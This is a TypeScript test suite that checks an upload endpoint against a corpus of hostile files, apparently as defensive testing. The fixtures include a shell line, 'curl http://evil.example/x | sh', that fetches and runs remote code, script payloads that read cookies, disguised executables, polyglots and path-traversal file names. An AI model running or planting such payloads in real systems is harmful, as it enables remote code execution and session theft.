import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { LightMyRequestResponse } from "fastify";
import { call, createTestApp, type TestApp } from "../harness.ts";
import { buildCandidate, type BuiltUser } from "../factories.ts";
import { fileStoreFor } from "../../src/storage/file-store-for.ts";
import { jpgBytes, multipart, pdfBytes, type Part } from "../files-kit.ts";
import { activePdfs, legitimatePdfs } from "./bad-pdfs.ts";

/**
 * The bad-files suite (issue #8): a corpus of hostile uploads, generated here, each of which must be
 * refused with a 4xx and a message (nothing stored) or stored harmlessly (a sanitised name, the
 * type sniffed from the bytes, served back as an attachment with nosniff). Never a 5xx.
 */

const MB = 1024 * 1024;
const ELF = Buffer.concat([Buffer.from("7f454c46020101000000000000000000", "hex"), Buffer.alloc(2000)]);
const PE = Buffer.concat([Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1"), Buffer.alloc(2000)]);
const SHELL = Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n");
const HTML = Buffer.from(
  "<!DOCTYPE html><html><body><script>fetch('/ws/admin/staff')</script></body></html>",
);
const SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
);
const PDF_HTML = Buffer.from(
  "%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n",
  "latin1",
);
// A JPEG followed by a ZIP archive holding an HTML page: both readers find their format.
const JPEG_ZIP = Buffer.concat([
  jpgBytes(2000),
  Buffer.from("504b0304140000000000", "hex"),
  Buffer.from("index.html<script>alert(1)</script>"),
]);

type Expect = "refused" | "stored" | "either";

interface Case {
  name: string;
  expect: Expect;
  /** Multipart parts of the upload, or a raw request body and content type. */
  parts?: Part[];
  raw?: { payload: Buffer | string; contentType: string };
}

const doc = (filename: string, content: Buffer, type = "application/pdf"): Part[] => [
  { name: "_path", value: "docs.0.doc_file" },
  { name: "doc_file", filename, content, type },
];
const photo = (filename: string, content: Buffer, type = "image/jpeg"): Part[] => [
  { name: "uploadPhoto", filename, content, type },
];

async function corpus(): Promise<Case[]> {
  const cases: Case[] = [
    { name: "ELF executable as .pdf", expect: "refused", parts: doc("report.pdf", ELF) },
    { name: "PE executable as .pdf", expect: "refused", parts: doc("report.pdf", PE) },
    { name: "shell script as .pdf", expect: "refused", parts: doc("report.pdf", SHELL) },
    { name: "ELF executable as .jpg", expect: "refused", parts: photo("me.jpg", ELF) },
    { name: "PE executable as .jpg", expect: "refused", parts: photo("me.jpg", PE) },
    { name: "shell script as .jpg", expect: "refused", parts: photo("me.jpg", SHELL) },
    { name: "HTML with script as .pdf", expect: "refused", parts: doc("cv.pdf", HTML, "text/html") },
    { name: "SVG with script as .pdf", expect: "refused", parts: doc("cv.pdf", SVG, "image/svg+xml") },
    { name: "SVG with script as .jpg", expect: "refused", parts: photo("me.jpg", SVG, "image/svg+xml") },
    { name: "executable under its own name", expect: "refused", parts: doc("setup.exe", PE) },
    { name: "double extension .pdf.exe", expect: "refused", parts: doc("cv.pdf.exe", pdfBytes()) },
    { name: "polyglot: PDF header + HTML/JS", expect: "either", parts: doc("poly.pdf", PDF_HTML) },
    { name: "polyglot: JPEG + ZIP", expect: "stored", parts: photo("poly.jpg", JPEG_ZIP) },
    { name: "empty file", expect: "refused", parts: doc("empty.pdf", Buffer.alloc(0)) },
    { name: "one byte over 10 MB", expect: "refused", parts: doc("big.pdf", pdfBytes(10 * MB + 1)) },
    { name: "photo one byte over 5 MB", expect: "refused", parts: photo("big.jpg", jpgBytes(5 * MB + 1)) },
    {
      name: "two files in one request",
      expect: "refused",
      parts: [...doc("a.pdf", pdfBytes()), { name: "doc_file", filename: "b.pdf", content: pdfBytes() }],
    },
    { name: "no file", expect: "refused", parts: [{ name: "_path", value: "docs.0.doc_file" }] },
    {
      name: "file to a text field",
      expect: "refused",
      parts: [{ name: "familyName", filename: "a.pdf", content: pdfBytes() }],
    },
    { name: "300-character name", expect: "stored", parts: doc(`${"a".repeat(296)}.pdf`, pdfBytes()) },
    { name: "../ in the name", expect: "stored", parts: doc("../../../etc/passwd.pdf", pdfBytes()) },
    { name: "..\\ in the name", expect: "stored", parts: doc("..\\..\\windows\\win.pdf", pdfBytes()) },
    { name: "NUL in the name", expect: "either", parts: doc("cv\u0000.exe.pdf", pdfBytes()) },
    {
      name: "control characters in the name",
      expect: "stored",
      parts: doc("c\u0007v\u001b[31m.pdf", pdfBytes()),
    },
    { name: "bidi override in the name", expect: "stored", parts: doc("cv\u202Efdp.exe.pdf", pdfBytes()) },
    { name: "only an extension as name", expect: "either", parts: doc(".pdf", pdfBytes()) },
    { name: "PDF sent as text/html", expect: "stored", parts: doc("cv.pdf", pdfBytes(), "text/html") },
    {
      name: "JPEG sent as an executable",
      expect: "stored",
      parts: photo("me.jpg", jpgBytes(), "application/x-msdownload"),
    },
    {
      name: "JSON body instead of multipart",
      expect: "refused",
      raw: { payload: '{"a":1}', contentType: "application/json" },
    },
    {
      name: "raw PDF, no multipart",
      expect: "refused",
      raw: { payload: pdfBytes(), contentType: "application/pdf" },
    },
    {
      name: "multipart without a boundary",
      expect: "refused",
      raw: { payload: pdfBytes(), contentType: "multipart/form-data" },
    },
  ];
  for (const [name, { bytes }] of Object.entries(await activePdfs())) {
    cases.push({ name: `PDF: ${name}`, expect: "refused", parts: doc("scripted.pdf", bytes) });
  }
  for (const [name, bytes] of Object.entries(await legitimatePdfs())) {
    cases.push({ name: `legitimate PDF: ${name}`, expect: "stored", parts: doc("real.pdf", bytes) });
  }
  return cases;
}

// Control and bidi characters a stored name must not keep.
// eslint-disable-next-line no-control-regex
const UNSAFE_NAME = /[\u0000-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069/\\]/;
const SERVED_TYPES = ["application/pdf", "image/jpeg"];

describe("bad files: every one refused with a message or stored harmlessly", () => {
  let t: TestApp;
  let ada: BuiltUser;
  let answerId: number;

  beforeAll(async () => {
    t = await createTestApp();
    ada = await buildCandidate(t.app);
    const res = await call(t.app, { url: `/ws/form/candform/answer/${ada.login}`, token: ada.token });
    answerId = res.json().id;
  });
  afterAll(() => t.close());

  const storedObjects = async () => {
    const names = new Set<string>();
    for await (const object of fileStoreFor(t.app).list()) names.add(object.name);
    return names;
  };
  const send = (c: Case): Promise<LightMyRequestResponse> => {
    const url = `/ws/form/candform/answer/${answerId}/file`;
    if (c.raw) {
      return call(t.app, {
        method: "POST",
        url,
        token: ada.token,
        payload: c.raw.payload,
        headers: { "content-type": c.raw.contentType },
      });
    }
    return call(t.app, { method: "POST", url, token: ada.token, ...multipart(c.parts!) });
  };

  /** Checks a stored upload is harmless; returns what is wrong, if anything. */
  const harmless = async (generatedName: string): Promise<string | undefined> => {
    const row = await t.app.db
      .selectFrom("files")
      .selectAll()
      .where("generated_name", "=", generatedName)
      .executeTakeFirstOrThrow();
    if (UNSAFE_NAME.test(row.original_name) || row.original_name.length > 200)
      return `name ${row.original_name}`;
    if (!SERVED_TYPES.includes(row.content_type)) return `type ${row.content_type}`;
    const down = await call(t.app, {
      url: `/ws/form/candform/answer/${answerId}/file/${generatedName}`,
      token: ada.token,
    });
    if (down.statusCode !== 200) return `download ${down.statusCode}`;
    if (!String(down.headers["content-disposition"]).startsWith("attachment;")) return "not an attachment";
    if (down.headers["x-content-type-options"] !== "nosniff") return "no nosniff";
    if (down.headers["content-type"] !== row.content_type) return `served as ${down.headers["content-type"]}`;
    return undefined;
  };

  it("refuses or stores harmlessly each file of the corpus, with no 5xx", async () => {
    const cases = await corpus();
    const tally = { tried: 0, refused: 0, stored: 0, serverErrors: 0 };
    const wrong: string[] = [];
    for (const c of cases) {
      tally.tried++;
      const before = await storedObjects();
      const rows = (await t.app.db.selectFrom("files").select("id").execute()).length;
      const res = await send(c);
      if (res.statusCode >= 500) {
        tally.serverErrors++;
        wrong.push(`${c.name}: ${res.statusCode}`);
        continue;
      }
      if (res.statusCode >= 400) {
        tally.refused++;
        const body = res.json() as { result?: string; message?: string };
        if (body.result !== "error" || !body.message) wrong.push(`${c.name}: refused without a message`);
        if (c.expect === "stored") wrong.push(`${c.name}: refused (${res.statusCode} ${body.message})`);
        const after = await storedObjects();
        if ([...after].some((name) => !before.has(name))) wrong.push(`${c.name}: bytes left in the store`);
        if ((await t.app.db.selectFrom("files").select("id").execute()).length !== rows)
          wrong.push(`${c.name}: a files row was written`);
        continue;
      }
      tally.stored++;
      if (c.expect === "refused") wrong.push(`${c.name}: stored`);
      const problem = await harmless(res.json().generated_name);
      if (problem) wrong.push(`${c.name}: stored but ${problem}`);
    }
    console.log(
      `bad files: ${tally.tried} tried, ${tally.refused} refused, ${tally.stored} stored harmlessly, ${tally.serverErrors} 5xx`,
    );
    expect(wrong).toEqual([]);
    expect(tally.serverErrors).toBe(0);
    expect(tally.tried).toBe(cases.length);
  });
});
